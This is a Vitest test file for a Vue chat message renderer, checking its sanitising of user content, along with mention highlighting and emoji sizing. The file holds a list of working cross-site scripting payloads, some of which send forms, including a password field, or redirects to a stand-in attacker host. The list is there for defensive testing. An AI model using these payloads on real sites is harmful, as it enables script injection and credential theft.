import { createPinia, setActivePinia } from "pinia";
import { mount } from "@vue/test-utils";
import { beforeEach, describe, expect, it } from "vitest";

import { fakeParley } from "@/client/testing/fake";
import { theUsers } from "@/client/testing/people";
import { useParley } from "@/stores/parley";
import type { Mentions } from "@/client";

import MessageBody from "../MessageBody.vue";

beforeEach(() => {
  setActivePinia(createPinia());
  useParley().use(fakeParley({ users: [theUsers[0]!, { ...theUsers[1]!, displayName: "Ben Okafor" }] }));
});

function shown(content: string, mentions?: Mentions): HTMLElement {
  return mount(MessageBody, { props: { content, mentions }, global: { stubs: { CodeBlock: true } } }).element as HTMLElement;
}

// What people have tried on others, each in some of its spellings.
const attacks = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script href=data:,alert(1) />",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<style>@import 'https://evil.example'</style>",
  "<form action=https://evil.example><input name=password></form>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<details open ontoggle=alert(1)>",
  "<x onclick=alert(1)>x</x>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))",
  "[x](<javascript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.org/1)",
  "[x](//evil.example)",
  "[x](/settings)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/x.png)",
  "![x](https://example.org/\"onerror=\"alert(1))",
  "[x](https://example.org/\"onclick=\"alert(1))",
  "[x](https://example.org 'a\" onclick=\"alert(1)')",
  "<javascript:alert(1)>",
  "<https://example.org/\"onclick=alert(1)>",
  "[a]: javascript:alert(1)\n[a]",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "```\"><img/src=x/onerror=alert(1)>\nx\n```",
  "|<img src=x onerror=alert(1)>|\n|-|\n|[x](javascript:alert(1))|",
  "- [x] <img src=x onerror=alert(1)>",
  "> <img src=x onerror=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "@<img src=x onerror=alert(1)>",
  "{{ constructor.constructor('alert(1)')() }}",
  "[constructor]: x\n[__proto__][constructor]",
];

const elements: Record<string, string[]> = {
  P: ["class"], BR: [], STRONG: [], EM: [], DEL: [], CODE: [], BLOCKQUOTE: [], UL: [], OL: ["start"], LI: ["class"], HR: [],
  A: ["href", "target", "rel"], SPAN: ["class", "title"], DIV: ["class", "tabindex"], TABLE: [], THEAD: [], TBODY: [], TR: [], TH: ["class"], TD: ["class"],
  INPUT: ["type", "checked", "disabled", "aria-hidden"], "CODE-BLOCK-STUB": ["text", "language"],
};

describe("a message", () => {
  it.each(attacks)("is text, and nothing that runs or loads: %s", (content) => {
    for (const element of shown(content).querySelectorAll("*")) {
      const allowed = elements[element.tagName];
      expect(allowed, element.tagName).toBeDefined();
      for (const { name } of element.attributes) if (!name.startsWith("data-v-")) expect(allowed, element.tagName).toContain(name);
      if (element.tagName !== "A") continue;
      expect(element.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
      expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    }
  });

  it("says whom it mentions by their names, and leaves others as they were written", () => {
    const body = shown("@ben, @BEN. @nobody", { users: [2] });
    expect([...body.querySelectorAll(".mention")].map((m) => m.textContent)).toEqual(["@Ben Okafor", "@Ben Okafor"]);
    expect(body.textContent).toBe("@Ben Okafor, @Ben Okafor. @nobody");
  });

  it("sets off a mention of oneself, and of everybody", () => {
    expect(shown("@ann", { users: [1] }).querySelector(".mine")).not.toBeNull();
    expect(shown("@channel!", { channel: true }).querySelector(".mine")?.textContent).toBe("@channel");
    expect(shown("@channel").querySelector(".mention")).toBeNull();
  });

  it.each([["🎉", true], ["👍🏽 ❤️", true], ["🇩🇪 1️⃣ 👩‍👩‍👧", true], ["🎉 yes", false], ["1", false], ["", false], ["🎉".repeat(13), false]])("%s is large: %s", (content, large) => {
    expect(shown(content).classList.contains("large")).toBe(large);
  });
});
